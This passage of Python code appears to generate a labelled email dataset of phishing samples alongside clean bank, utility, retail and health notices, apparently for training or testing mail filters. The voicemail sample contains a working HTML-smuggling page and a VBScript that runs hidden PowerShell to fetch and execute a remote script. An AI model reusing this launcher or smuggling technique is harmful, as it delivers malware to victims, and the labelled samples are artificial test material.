                           ("readme.txt", b"Open Order file to view your receipt and cancellation form.\r\n")],
                          "AMAZON_ORDER")
    html = ('<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#0f1111;">'
            '<div style="max-width:600px;"><p style="font-size:24px;font-weight:bold;">amazon</p>'
            f'<p>Hello,</p><p>Your order <b>#{order}</b> for <b>Apple MacBook Air 13" M3 (Midnight)</b> totaling '
            '<b>$1,149.00</b> has been placed and will ship tomorrow.</p>'
            '<p>If you did not place this order, please open the attached order receipt to submit a cancellation '
            'request within 24 hours. Orders that are not cancelled will be charged to your default payment '
            'method.</p><p>Thank you for shopping with us.<br>Amazon.com</p></div></body></html>\n')
    plain = (f"Hello,\n\nYour order #{order} for Apple MacBook Air 13\" M3 (Midnight) totaling $1,149.00 has been "
             "placed and will ship tomorrow.\n\nIf you did not place this order, please open the attached order "
             "receipt to submit a cancellation request within 24 hours.\n\nAmazon.com\n")
    headers = f"""From: "Amazon.com" <orders@{dom}>
To: {rcpt}
Subject: Your Amazon.com order #{order} has been placed
Date: {fmt(when)}
Message-ID: <{digits(seed + 'mid', 13)}.{hexs(seed + 'mid2', 10)}@{dom}>
MIME-Version: 1.0"""
    body = mixed(bnd("x", seed + "m"), [alt(plain, html, bnd("x", seed + "a")),
                                       attachment("application/octet-stream", f"Order_{order}.iso", iso)])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="none", hfrom=dom, policy="NONE", headers=headers,
               body=body, seed=seed)
    add("malware", "phish", "amazon-order-iso-exe", raw,
        "Fake Amazon order for a MacBook sent to an MSN user from a look-alike domain, with a disk image (.iso) "
        "holding an executable 'Order_112-...exe' presented as the receipt/cancellation form.")


@sample
def m_voicemail_html_smuggling():
    seed = "m-smg"
    rcpt = "debra.okafor@sbcglobal.net"
    when = T("2025-05-13 12:31:50 -0500")
    dom = "vm-notify-center.com"
    out = postfix_out(f"relay.{dom}", "91.215.85." + str(num(seed + "ip", 10, 250)), f"voicemail@{dom}", rcpt, when,
                      seed)
    out.sigs = [Sig(dom, "vm", ["from", "to", "subject", "date", "message-id"], seed + "dk", when)]
    vbs = ('Set o = CreateObject("WScript.Shell")\r\n'
           'o.Run "powershell -w hidden -c ""iwr https://vm-notify-center.com/a/p.ps1 -OutFile $env:TEMP\\p.ps1; '
           '& $env:TEMP\\p.ps1""", 0, False\r\n'
           'MsgBox "Audio codec missing. Message cannot be played.", 48, "Voicemail"\r\n')
    blob = base64.b64encode(files.zip_archive([("Voicemail_0042.vbs", vbs.encode())])).decode()
    chunks = [blob[i:i + 76] for i in range(0, len(blob), 76)]
    js_blob = "+\n".join(f"'{c}'" for c in chunks)
    page = ('<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Voice Message - Playback</title>\n'
            '<style>body{font-family:Segoe UI,Arial;background:#f4f6f8;text-align:center;padding-top:80px}'
            '.c{display:inline-block;background:#fff;padding:30px 40px;border-radius:8px;box-shadow:0 1px 6px #bbb}'
            '</style></head><body><div class="c"><h2>&#9654; Voice Message (0:42)</h2>'
            '<p>Preparing secure playback, your download will start automatically...</p></div>\n'
            '<script>\nvar d=\n' + js_blob + ';\n'
            'var b=atob(d),a=new Uint8Array(b.length);for(var i=0;i<b.length;i++){a[i]=b.charCodeAt(i)}\n'
            'var f=new Blob([a],{type:"application/zip"});var u=URL.createObjectURL(f);\n'
            'var l=document.createElement("a");l.href=u;l.download="Voicemail_0042.zip";document.body.appendChild(l);'
            'l.click();\n</script></body></html>\n')
    plain = ("AT&T Voicemail\n\nYou received a new voice message.\n\nFrom: (214) 387-0942\nReceived: May 13, 2025 "
             "12:29 PM\nLength: 0:42\n\nOpen the attached file to listen to your message.\n\n"
             "AT&T Voicemail to Text. Do not reply to this message.\n")
    headers = f"""From: "AT&T Voicemail" <voicemail@{dom}>
To: {rcpt}
Subject: New Voicemail from (214) 387-0942 - 0:42
Date: {fmt(when)}
Message-ID: <{hexs(seed + 'mid', 30)}@{dom}>
MIME-Version: 1.0"""
    body = mixed(bnd("x", seed), [text(plain), attachment("text/html", "VM_2143870942_0042.htm", page.encode())])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom=dom, policy="NONE", headers=headers,
               body=body, seed=seed)
    add("malware", "phish", "voicemail-html-smuggling-vbs", raw,
        "AT&T 'new voicemail' notice to an sbcglobal.net user with an HTML attachment that smuggles an embedded "
        "base64 ZIP (holding a VBScript PowerShell launcher) and auto-downloads it via a Blob URL.")


# ============================================================================================
# LEGITIMATE: statements, alerts, receipts (clean)
# ============================================================================================

@sample
def l_fidelity_statement():
    seed = "l-fid"
    rcpt = "dwightkessler58@gmail.com"
    when = T("2025-04-09 05:12:40 -0400")
    ip = "192.223.178." + str(num(seed + "ip", 20, 80))
    helo = rdns = f"mxo{num(seed + 'mx', 1, 6)}.fidelity.com"
    out = Out(helo, ip, rdns, "bounce-alerts@fidelity.com",
              [f"Received: from fmrintmsg{num(seed + 'i', 10, 40)}.fmr.com (fmrintmsg.fmr.com [10.47.{num(seed + 'i2', 1, 250)}.{num(seed + 'i3', 1, 250)}])\n"
               f"\tby {helo} (Postfix) with ESMTP id {HEX(seed + 'q', 11)}\n\tfor <{rcpt}>; {fmt(when)}"])
    out.sigs = [Sig("fidelity.com", "fid2024", ["From", "To", "Subject", "Date", "Message-ID", "MIME-Version",
                                                "Content-Type"], seed + "dk", when)]
    html = shell(
        row('<img src="https://www.fidelity.com/bin-public/060_www_fidelity_com/images/Fidelity-logo.png" '
            'width="130" alt="Fidelity Investments" style="display:block;border:0;" />', "24px 32px 6px")
        + row('<p style="font-size:20px;color:#368727;margin:0;">Your statement is ready</p>')
        + row('<p>Dear Dwight Kessler,</p>'
              '<p>Your quarterly statement for the period ending March 31, 2025 is now available for the '
              'following account:</p>'
              '<p style="background:#f4f4f4;padding:10px 14px;">Individual - TOD &nbsp;&nbsp; ending in '
              '<b>' + digits(seed + "acct", 4) + '</b></p>'
              '<p>To view it, log in to Fidelity.com and go to <b>Accounts &amp; Trade &gt; Statements</b>. For '
              'your security, we do not include account details or links to log in within this email.</p>'
              '<p>Thank you for investing with Fidelity.</p>')
        + row('<p style="font-size:11px;color:#666;">This email was sent to you because you selected electronic '
              'delivery of statements. To update your preferences, log in to Fidelity.com and select Profile.<br/>'
              'Fidelity Brokerage Services LLC, Member NYSE, SIPC, 900 Salem Street, Smithfield, RI 02917<br/>'
              '&copy; 2025 FMR LLC. All rights reserved. 512789.12.0</p>'),
        title="Fidelity Investments")
    plain = ("Your statement is ready\n\nDear Dwight Kessler,\n\nYour quarterly statement for the period ending "
             "March 31, 2025 is now available for the following account:\n\nIndividual - TOD ending in "
             + digits(seed + "acct", 4) + "\n\nTo view it, log in to Fidelity.com and go to Accounts & Trade > "
             "Statements. For your security, we do not include account details or links to log in within this "
             "email.\n\nFidelity Brokerage Services LLC, Member NYSE, SIPC\n")
    headers = f"""Date: {fmt(when)}
From: Fidelity Investments <Fidelity.Alerts@fidelity.com>
To: {rcpt}
Subject: Your Fidelity statement is ready
Message-ID: <{digits(seed + 'mid', 12)}.{num(seed + 'mid2', 1000, 9999)}.JavaMail.alertsvc@fmrintmsg.fmr.com>
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="fidelity.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("ses", seed)), seed=seed)
    add("clean", "legit", "fidelity-quarterly-statement-ready", raw,
        "Genuine Fidelity eDelivery notice from fidelity.com (SPF/DKIM/DMARC pass) that a quarterly statement is "
        "available; deliberately contains no login link or account detail.")


@sample
def l_pnc_zelle_received():
    seed = "l-pnc"
    rcpt = "lkowalczyk61@comcast.net"
    when = T("2025-05-17 13:41:06 -0400")
    ip = "204.74.36." + str(num(seed + "ip", 20, 80))
    helo = rdns = f"mta{num(seed + 'mx', 1, 4)}.pnc.com"
    out = Out(helo, ip, rdns, "pncalerts@pnc.com",
              [f"Received: from alrtprd{num(seed + 'a', 10, 40)}.pncbank.com ([10.212.{num(seed + 'a2', 1, 250)}.{num(seed + 'a3', 1, 250)}])\n"
               f"\tby {helo} with ESMTP id {alnum(seed + 'q', 12)}\n\tfor <{rcpt}>; {fmt(when)}"])
    out.sigs = [Sig("pnc.com", "pncalerts", ["From", "To", "Subject", "Date", "Message-ID"], seed + "dk", when)]
    plain = ("PNC Alert\n\nYou received money with Zelle(R)\n\nDanielle Kowalczyk sent you $60.00.\n"
             "Memo: Mom's birthday dinner\nDate: 05/17/2025\nDeposited to: Virtual Wallet Spend ending in "
             + digits(seed + "a", 4) + "\n\nThe money is available now in your account.\n\nTo manage your alerts, "
             "sign on to PNC Online Banking at pnc.com and go to Alerts.\n\nPlease do not reply to this email.\n"
             "PNC Bank, National Association. Member FDIC\n")
    html = ('<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#333;">'
            '<table width="600" cellpadding="0" cellspacing="0"><tr><td style="border-top:6px solid #ef7622;'
            'padding:18px 0;"><b style="color:#0069aa;font-size:20px;">PNC</b> <span style="color:#555;">Alert'
            '</span></td></tr><tr><td style="padding:8px 0 16px;font-size:18px;"><b>You received money with '
            'Zelle&reg;</b></td></tr><tr><td><p><b>Danielle Kowalczyk</b> sent you <b>$60.00</b>.</p>'
            '<p>Memo: Mom&#39;s birthday dinner<br>Date: 05/17/2025<br>Deposited to: Virtual Wallet Spend ending '
            'in ' + digits(seed + "a", 4) + '</p><p>The money is available now in your account.</p>'
            '<p style="font-size:12px;color:#666;">To manage your alerts, sign on to PNC Online Banking at pnc.com '
            'and go to Alerts. Please do not reply to this email.<br>PNC Bank, National Association. Member FDIC'
            '</p></td></tr></table></body></html>\n')
    headers = f"""Message-ID: <{digits(seed + 'mid', 10)}.{digits(seed + 'mid2', 6)}.{epoch(when)}@alrtprd.pncbank.com>
Date: {fmt(when)}
From: PNC Alerts <pncalerts@pnc.com>
To: {rcpt}
Subject: You received money with Zelle(R)
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="pnc.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("x", seed), charset="us-ascii", enc_="7bit"), seed=seed)
    add("clean", "legit", "pnc-zelle-money-received", raw,
        "Genuine PNC alert from pnc.com (authentication passes) that a family member sent $60 by Zelle; no links.")


@sample
def l_capitalone_statement():
    seed = "l-cap1"
    rcpt = "jen.albright@icloud.com"
    when = T("2025-09-03 06:02:11 -0400")
    out = sfmc_out("notification", "capitalone.com", rcpt, when, seed, selector="cone1")
    sh = sfmc_headers(seed, "notification", "capitalone.com")
    c = sh["click"]
    html = shell(
        row(f'<img src="{sh["img"]}/lib/fe9f1572756c07757d/m/1/cap1-logo.png" width="120" alt="Capital One" />',
            "22px 30px 8px")
        + row('<p style="font-size:20px;color:#004977;margin:0;">Your statement is ready</p>')
        + row('<p>Hi Jennifer,</p><p>Your Quicksilver statement for the account ending in <b>8841</b> is ready to '
              'view.</p><table cellpadding="6" style="font-size:14px;"><tr><td>New balance</td><td><b>$1,218.44</b>'
              '</td></tr><tr><td>Minimum payment due</td><td><b>$35.00</b></td></tr><tr><td>Due date</td><td>'
              '<b>Sep 28, 2025</b></td></tr></table>')
        + row(btn(f"{c}/?{sh['qs']}", "View Statement", "#d03027"))
        + row('<p style="font-size:11px;color:#777;">This email was sent to jen.albright@icloud.com. Please add '
              'capitalone@notification.capitalone.com to your address book.<br/>'
              f'<a href="{c}/?qs={hexs(seed + "p", 80)}" style="color:#777;">Privacy</a> | '
              f'<a href="{c}/?qs={hexs(seed + "a", 80)}" style="color:#777;">Alert settings</a><br/>'
              '&copy; 2025 Capital One. Capital One is a federally registered service mark.</p>'
              f'<img src="{c}/open.aspx?ffcb10-{hexs(seed + "o", 20)}" width="1" height="1" alt="" />'),
        title="Capital One")
    plain = ("Your statement is ready\n\nHi Jennifer,\n\nYour Quicksilver statement for the account ending in 8841 "
             "is ready to view.\n\nNew balance: $1,218.44\nMinimum payment due: $35.00\nDue date: Sep 28, 2025\n\n"
             f"View Statement: {c}/?{sh['qs']}\n\n(c) 2025 Capital One\n")
    headers = f"""From: "Capital One" <capitalone@notification.capitalone.com>
To: <{rcpt}>
Subject: Your Quicksilver statement is ready
Date: {fmt(when)}
MIME-Version: 1.0
Reply-To: "Capital One" <reply-{hexs(seed + 'r', 20)}@notification.capitalone.com>
{sh['job']}
Message-ID: {sh['msgid']}
{sh['sfmc']}
Feedback-ID: {num(seed + 'fb', 100000, 999999)}:{num(seed + 'fb2', 1000000, 9999999)}:oid:sfmc"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="capitalone.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("sfmc", seed)), seed=seed)
    add("clean", "legit", "capitalone-statement-ready-sfmc", raw,
        "Genuine Capital One statement notice from notification.capitalone.com via Salesforce Marketing Cloud "
        "(aligned DKIM, DMARC pass) with click-tracking links on the brand's own subdomain.")


@sample
def l_xfinity_bill_ready():
    seed = "l-xfin"
    rcpt = "ron.haskins@comcast.net"
    when = T("2025-03-06 04:33:52 -0500")
    out = sfmc_out("alerts", "comcast.net", rcpt, when, seed, selector="200608")
    out.mf = f"bounce-{num(seed + 'bj', 10, 99)}_HTML-{num(seed + 'bm', 1000000, 9999999)}@bounce.alerts.comcast.net"
    sh = sfmc_headers(seed, "alerts", "comcast.net")
    c = sh["click"]
    html = shell(
        row('<p style="font-size:26px;margin:0;color:#000;"><b>xfinity</b></p>', "22px 30px 6px")
        + row('<p style="font-size:22px;margin:0;">Your bill is ready</p>')
        + row('<p>Hi Ronald,</p><p>Your Xfinity bill for account ending in <b>' + digits(seed + "a", 4)
              + '</b> is ready.</p><p style="font-size:28px;margin:8px 0;"><b>$184.27</b></p>'
              '<p>Due Mar 24. You&#39;re set up for automatic payments, so there&#39;s nothing else you need to do. '
              'We&#39;ll charge your payment method on file on Mar 24.</p>')
        + row(btn(f"{c}/?{sh['qs']}", "View bill", "#1f69ff"))
        + row('<p style="font-size:11px;color:#6b6b6b;">This is an automated message. Please do not reply.<br/>'
              f'<a href="{c}/?qs={hexs(seed + "pv", 80)}" style="color:#6b6b6b;">Privacy Policy</a><br/>'
              '&copy; 2025 Comcast. 1701 John F Kennedy Blvd, Philadelphia, PA 19103</p>'
              f'<img src="{c}/open.aspx?ffcb10-{hexs(seed + "o", 20)}" width="1" height="1" alt="" />'),
        title="Xfinity")
    plain = (f"Your bill is ready\n\nHi Ronald,\n\nYour Xfinity bill is ready: $184.27, due Mar 24. You're set up "
             f"for automatic payments, so there's nothing else you need to do.\n\nView bill: {c}/?{sh['qs']}\n\n"
             "(c) 2025 Comcast\n")
    headers = f"""From: "Xfinity" <online.communications@alerts.comcast.net>
To: <{rcpt}>
Subject: Your Xfinity bill is ready
Date: {fmt(when)}
MIME-Version: 1.0
{sh['job']}
Message-ID: {sh['msgid']}
{sh['sfmc']}"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="alerts.comcast.net", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("sfmc", seed)), seed=seed)
    add("clean", "legit", "xfinity-bill-ready", raw,
        "Genuine Xfinity 'your bill is ready' (AutoPay) notification from alerts.comcast.net to a comcast.net "
        "customer, sent via Salesforce Marketing Cloud with aligned authentication.")


@sample
def l_duke_bill():
    seed = "l-duke"
    rcpt = "cwatkins.family@nc.rr.com"
    when = T("2025-02-12 09:20:18 -0500")
    out = sfmc_out("paperless", "duke-energy.com", rcpt, when, seed, selector="200608")
    sh = sfmc_headers(seed, "paperless", "duke-energy.com")
    c = sh["click"]
    html = shell(
        row('<p style="font-size:22px;color:#00789e;margin:0;"><b>DUKE<br/>ENERGY</b></p>', "22px 30px 6px")
        + row('<p style="font-size:20px;">Your paperless bill is available</p>'
              '<table cellpadding="5" style="font-size:14px;"><tr><td>Account number</td><td>ending in '
              + digits(seed + "a", 4) + '</td></tr><tr><td>Amount due</td><td><b>$236.18</b></td></tr>'
              '<tr><td>Due date</td><td>March 5, 2025</td></tr></table>'
              '<p>Winter bills can be higher. Budget Billing can help even out your monthly payments.</p>')
        + row(btn(f"{c}/?{sh['qs']}", "View and pay bill", "#00789e"))
        + row('<p style="font-size:11px;color:#666;">Please do not reply to this email. Duke Energy will never '
              'call to demand immediate payment or threaten same-day disconnection.<br/>'
              f'<a href="{sh["unsub"]}" style="color:#666;">Manage email preferences</a><br/>'
              'Duke Energy Corporation, 526 S. Church St., Charlotte, NC 28202</p>'),
        title="Duke Energy")
    plain = ("DUKE ENERGY\n\nYour paperless bill is available\n\nAmount due: $236.18\nDue date: March 5, 2025\n\n"
             f"View and pay bill: {c}/?{sh['qs']}\n\nDuke Energy will never call to demand immediate payment or "
             "threaten same-day disconnection.\n")
    headers = f"""From: "Duke Energy" <DukeEnergy@paperless.duke-energy.com>
To: <{rcpt}>
Subject: Your Duke Energy bill is ready
Date: {fmt(when)}
MIME-Version: 1.0
{sh['job']}
Message-ID: {sh['msgid']}
{sh['sfmc']}"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="paperless.duke-energy.com",
               policy="REJECT", headers=headers, body=alt(plain, html, bnd("sfmc", seed)), seed=seed)
    add("clean", "legit", "duke-energy-paperless-bill", raw,
        "Genuine Duke Energy paperless bill notice to a Spectrum customer, sent through Salesforce Marketing Cloud "
        "from paperless.duke-energy.com with aligned DKIM and a warning about disconnection scams.")


@sample
def l_amazon_shipped():
    seed = "l-amz"
    rcpt = "gary.lindqvist@msn.com"
    when = T("2025-11-20 15:08:47 -0800")
    out = ses_out("amazon.com", "bounces.amazon.com", rcpt, when, seed, selector="rte02")
    out.mf = f"{when.astimezone(UTC).strftime('%Y%m%d%H%M%S')}{hexs(seed + 'r', 20)}@bounces.amazon.com"
    order = f"113-{digits(seed + 'o1', 7)}-{digits(seed + 'o2', 7)}"
    link = f"https://www.amazon.com/gp/css/shiptrack/view.html?ie=UTF8&orderID={order}&ref_=pe_{digits(seed + 'ref', 8)}"
    html = shell(
        row('<p style="font-size:22px;margin:0;"><b>amazon</b></p>', "20px 24px 4px")
        + row('<p style="font-size:20px;margin:0;">Shipped: &quot;Instant Pot Duo 7-in-1...&quot;</p>', "4px 24px")
        + row(f'<p>Hi Gary, your package is on the way.</p><p><b>Arriving Saturday</b></p><p>Order # {order}</p>',
              "8px 24px")
        + row(btn(link, "Track package", "#ffd814", "#0f1111"), "8px 24px")
        + row('<p style="font-size:12px;color:#565959;">Return or replace items in <a href="https://www.amazon.com/'
              'gp/css/order-history?ref_=pe_yo" style="color:#007185;">Your Orders</a>.<br/>&copy;2025 Amazon.com, '
              'Inc. or its affiliates. Amazon and all related marks are trademarks of Amazon.com, Inc. or its '
              'affiliates. Amazon.com, 410 Terry Avenue N., Seattle, WA 98109.</p>', "8px 24px"),
        title="Amazon.com", bg="#ffffff")
    plain = (f"Hi Gary, your package is on the way.\n\nArriving Saturday\n\nShipped: \"Instant Pot Duo 7-in-1...\"\n"
             f"Order # {order}\n\nTrack package: {link}\n\n(c)2025 Amazon.com, Inc. or its affiliates.\n")
    headers = f"""Date: {fmt(when.astimezone(UTC))}
From: "Amazon.com" <shipment-tracking@amazon.com>
To: {rcpt}
Message-ID: {out.msgid}
Subject: =?UTF-8?Q?Shipped:_=22Instant_Pot_Duo_7-in-1...=22?=
MIME-Version: 1.0
X-AMAZON-MAIL-RELAY-TYPE: notification
Bounces-to: {out.mf}
X-AMAZON-RTE-VERSION: 2.0
X-AMAZON-METADATA: CA=C1SWFGK{alnum(seed + 'md', 10).upper()}-CU=A{alnum(seed + 'cu', 12).upper()}
X-Original-MessageID: <urn.rtn.msg.{when.astimezone(UTC).strftime('%Y%m%d%H%M%S')}{hexs(seed + 'urn', 18)}@1.rtn.prod.amazon.com>"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="amazon.com", policy="QUARANTINE",
               headers=headers, body=alt(plain, html, bnd("ses", seed)), seed=seed)
    add("clean", "legit", "amazon-shipped-notification", raw,
        "Genuine Amazon shipment notification from shipment-tracking@amazon.com through Amazon SES (amazon.com "
        "DKIM aligned), tracking link on www.amazon.com.")


@sample
def l_venmo_paid_you():
    seed = "l-venmo"
    rcpt = "caleb.fontaine.tx@gmail.com"
    when = T("2025-06-07 19:02:33 -0500")
    ip = "173.0.84." + str(num(seed + "ip", 225, 235))
    helo = rdns = f"mx{num(seed + 'mx', 1, 4)}.slc.paypal.com"
    out = Out(helo, ip, rdns, "venmo@venmo.com",
              [f"Received: from mailsvc{num(seed + 'm', 1, 40)}.slc.venmo.com (mailsvc.slc.venmo.com [10.98.{num(seed + 'm2', 1, 250)}.{num(seed + 'm3', 1, 250)}])\n"
               f"\tby {helo} (Postfix) with ESMTP id {HEX(seed + 'q', 11)}\n\tfor <{rcpt}>; {fmt(when)}"])
    out.sigs = [Sig("venmo.com", "pp-dkim1", ["content-type", "date", "to", "from", "subject", "mime-version",
                                              "message-id"], seed + "dk", when)]
    html = shell(
        row('<p style="font-size:26px;color:#008cff;margin:0;font-weight:bold;">venmo</p>', "22px 30px 6px")
        + row('<p style="font-size:18px;margin:0;"><b>Marcus Delgado</b> paid you <b>$45.00</b></p>'
              '<p style="font-size:16px;">&#127829; pizza + wings friday</p>'
              '<p style="font-size:13px;color:#6b6e76;">Money credited to your Venmo account. Transfer to your '
              'bank anytime.</p>')
        + row(btn("https://venmo.com/account/activity", "See transaction", "#008cff"))
        + row('<p style="font-size:11px;color:#6b6e76;">Payment ID: ' + digits(seed + "pid", 19) + '<br/>'
              'For any issues, including the recipient not receiving funds, please contact us at help.venmo.com.'
              '<br/>Venmo is a service of PayPal, Inc., a licensed provider of money transfer services. '
              '2211 North First Street, San Jose, CA 95131</p>'),
        title="Venmo", bg="#ffffff")
    plain = ("Marcus Delgado paid you $45.00\n\n\U0001F355 pizza + wings friday\n\nMoney credited to your Venmo "
             "account. Transfer to your bank anytime.\n\nSee transaction: https://venmo.com/account/activity\n\n"
             "Payment ID: " + digits(seed + "pid", 19) + "\n\nVenmo is a service of PayPal, Inc.\n")
    headers = f"""Date: {fmt(when)}
Message-ID: <{hexs(seed + 'mid', 12)}.{hexs(seed + 'mid2', 8)}@mailsvc.venmo.com>
Subject: {enc("Marcus Delgado paid you $45.00", "Q")}
MIME-Version: 1.0
From: Venmo <venmo@venmo.com>
To: {rcpt}"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="venmo.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("clean", "legit", "venmo-paid-you", raw,
        "Genuine Venmo payment-received notice from venmo.com (PayPal mail servers, DMARC pass) for a $45 split "
        "with a friend.")


@sample
def l_norton_renewal_notice():
    seed = "l-nor"
    rcpt = "walt.jeffries@aol.com"
    when = T("2025-06-02 11:14:29 -0500")
    out = sfmc_out("mail", "norton.com", rcpt, when, seed, selector="200608")
    sh = sfmc_headers(seed, "mail", "norton.com")
    c = sh["click"]
    html = shell(
        row('<p style="font-size:24px;margin:0;color:#000;"><b>Norton</b></p>', "22px 30px 6px")
        + row('<p style="font-size:20px;">Your subscription renews soon</p>'
              '<p>Hi Walter,</p><p>Your <b>Norton 360 Deluxe</b> subscription is set to automatically renew on '
              '<b>July 2, 2025</b> so your protection continues without interruption.</p>'
              '<table cellpadding="5" style="font-size:14px;"><tr><td>Renewal price</td><td><b>$119.99</b> + tax'
              '</td></tr><tr><td>Payment method</td><td>Visa ending in 3307</td></tr></table>'
              '<p>You can review or turn off automatic renewal at any time in your Norton account.</p>')
        + row(btn(f"{c}/?{sh['qs']}", "Manage subscription", "#ffc700", "#000000"))
        + row('<p style="font-size:11px;color:#666;">Norton will never ask you to call a phone number in an '
              'invoice email or to install remote-access software for a refund.<br/>'
              f'<a href="{sh["unsub"]}" style="color:#666;">Email preferences</a> | Gen Digital Inc., '
              '60 E. Rio Salado Parkway, Suite 1000, Tempe, AZ 85281</p>'),
        title="Norton")
    plain = ("Your subscription renews soon\n\nHi Walter,\n\nYour Norton 360 Deluxe subscription is set to "
             "automatically renew on July 2, 2025.\nRenewal price: $119.99 + tax\nPayment method: Visa ending in "
             f"3307\n\nManage subscription: {c}/?{sh['qs']}\n\nGen Digital Inc., Tempe, AZ\n")
    headers = f"""From: "Norton" <norton@mail.norton.com>
To: <{rcpt}>
Subject: Your Norton subscription will renew on July 2
Date: {fmt(when)}
MIME-Version: 1.0
{sh['job']}
Message-ID: {sh['msgid']}
{sh['sfmc']}"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="mail.norton.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("sfmc", seed)), seed=seed)
    add("clean", "legit", "norton-autorenewal-reminder", raw,
        "Genuine Norton auto-renewal reminder from mail.norton.com via Salesforce Marketing Cloud: real price, "
        "last card digits, manage-subscription link, no phone number - the legitimate counterpart of callback "
        "scams.")


@sample
def l_kaiser_appointment():
    seed = "l-kp"
    rcpt = "nguyen.thanh.sj@gmail.com"
    when = T("2025-10-10 06:30:12 -0700")
    ip = "162.119.232." + str(num(seed + "ip", 10, 90))
    helo = rdns = f"mta{num(seed + 'mx', 1, 8)}.kp.org"
    out = Out(helo, ip, rdns, "donotreply@kp.org",
              [f"Received: from apptrmd{num(seed + 'a', 1, 20)}.kp.org (apptrmd.kp.org [10.38.{num(seed + 'a2', 1, 250)}.{num(seed + 'a3', 1, 250)}])\n"
               f"\tby {helo} (Postfix) with ESMTP id {HEX(seed + 'q', 11)}\n\tfor <{rcpt}>; {fmt(when)}"])
    out.sigs = [Sig("kp.org", "kp2023", ["From", "To", "Subject", "Date", "Message-ID", "MIME-Version"],
                    seed + "dk", when)]
    html = shell(
        row('<p style="font-size:20px;color:#0078b3;margin:0;"><b>KAISER PERMANENTE</b></p>', "22px 30px 6px")
        + row('<p style="font-size:18px;"><b>Appointment reminder</b></p>'
              '<p>Hello Thanh,</p><p>This is a reminder of your upcoming appointment:</p>'
              '<table cellpadding="5" style="font-size:14px;background:#f4f8fb;width:100%;">'
              '<tr><td><b>When</b></td><td>Tuesday, October 14, 2025 at 9:40 AM</td></tr>'
              '<tr><td><b>With</b></td><td>Priya Raman, MD - Family Medicine</td></tr>'
              '<tr><td><b>Where</b></td><td>San Jose Medical Offices, 250 Hospital Pkwy, Bldg A, 2nd Floor</td></tr>'
              '</table><p>Please arrive 15 minutes early and bring your Kaiser Permanente ID card. To cancel or '
              'reschedule, sign in at kp.org or call the appointment line on the back of your card.</p>'
              '<p>You can complete eCheck-in on the KP app 7 days before your visit.</p>')
        + row('<p style="font-size:11px;color:#666;">This email was sent to you because you chose to receive '
              'appointment reminders. Please do not reply to this message.<br/>Kaiser Foundation Health Plan, Inc., '
              'One Kaiser Plaza, Oakland, CA 94612</p>'),
        title="Kaiser Permanente")
    plain = ("KAISER PERMANENTE\n\nAppointment reminder\n\nHello Thanh,\n\nWhen: Tuesday, October 14, 2025 at 9:40 "
             "AM\nWith: Priya Raman, MD - Family Medicine\nWhere: San Jose Medical Offices, 250 Hospital Pkwy, Bldg "
             "A, 2nd Floor\n\nPlease arrive 15 minutes early. To cancel or reschedule, sign in at kp.org.\n")
    headers = f"""Date: {fmt(when)}
From: Kaiser Permanente <donotreply@kp.org>
To: {rcpt}
Message-ID: <{digits(seed + 'mid', 9)}.{digits(seed + 'mid2', 5)}.{epoch(when) * 1000}@apptrmd.kp.org>
Subject: Reminder: Appointment on Tue, Oct 14 at 9:40 AM
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="kp.org", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("ses", seed)), seed=seed)
    add("clean", "legit", "kaiser-appointment-reminder", raw,
        "Genuine Kaiser Permanente appointment reminder from kp.org (authentication passes) with date, doctor and "
        "clinic address and no link to follow.")


@sample
def l_cvs_rx_ready():
    seed = "l-cvs"
    rcpt = "marybeth.oconnor@yahoo.com"
    when = T("2025-05-22 14:47:01 -0500")
    out = sfmc_out("pharmacy", "cvs.com", rcpt, when, seed, selector="200608")
    sh = sfmc_headers(seed, "pharmacy", "cvs.com")
    c = sh["click"]
    html = shell(
        row('<p style="font-size:24px;color:#cc0000;margin:0;"><b>&#9829;CVS pharmacy</b></p>', "22px 30px 6px")
        + row('<p style="font-size:20px;">Your prescription is ready for pickup</p>'
              '<p>Hi Mary Beth,</p><p>1 prescription is ready at:</p>'
              '<p style="background:#f7f7f7;padding:10px;">CVS Pharmacy #' + digits(seed + "st", 4)
              + '<br/>1550 W Northwest Hwy, Palatine, IL 60067<br/>(847) 555-0132</p>'
              '<p>Rx ending in ' + digits(seed + "rx", 4) + ' for MARY B<br/>Please pick up by June 1.</p>')
        + row(btn(f"{c}/?{sh['qs']}", "Pay now & skip the line", "#cc0000"))
        + row('<p style="font-size:11px;color:#666;">For your privacy, the name of the medication is not '
              'included. You are receiving this email because you signed up for prescription alerts.<br/>'
              f'<a href="{sh["unsub"]}" style="color:#666;">Manage notifications</a> | CVS Pharmacy, Inc., '
              'One CVS Drive, Woonsocket, RI 02895</p>'),
        title="CVS Pharmacy")
    plain = ("CVS pharmacy\n\nYour prescription is ready for pickup\n\nHi Mary Beth,\n\n1 prescription is ready at "
             "CVS Pharmacy, 1550 W Northwest Hwy, Palatine, IL 60067.\nPlease pick up by June 1.\n\n"
             f"Pay now & skip the line: {c}/?{sh['qs']}\n")
    headers = f"""From: "CVS Pharmacy" <CVSPharmacy@pharmacy.cvs.com>
To: <{rcpt}>
Subject: Your prescription is ready
Date: {fmt(when)}
MIME-Version: 1.0
{sh['job']}
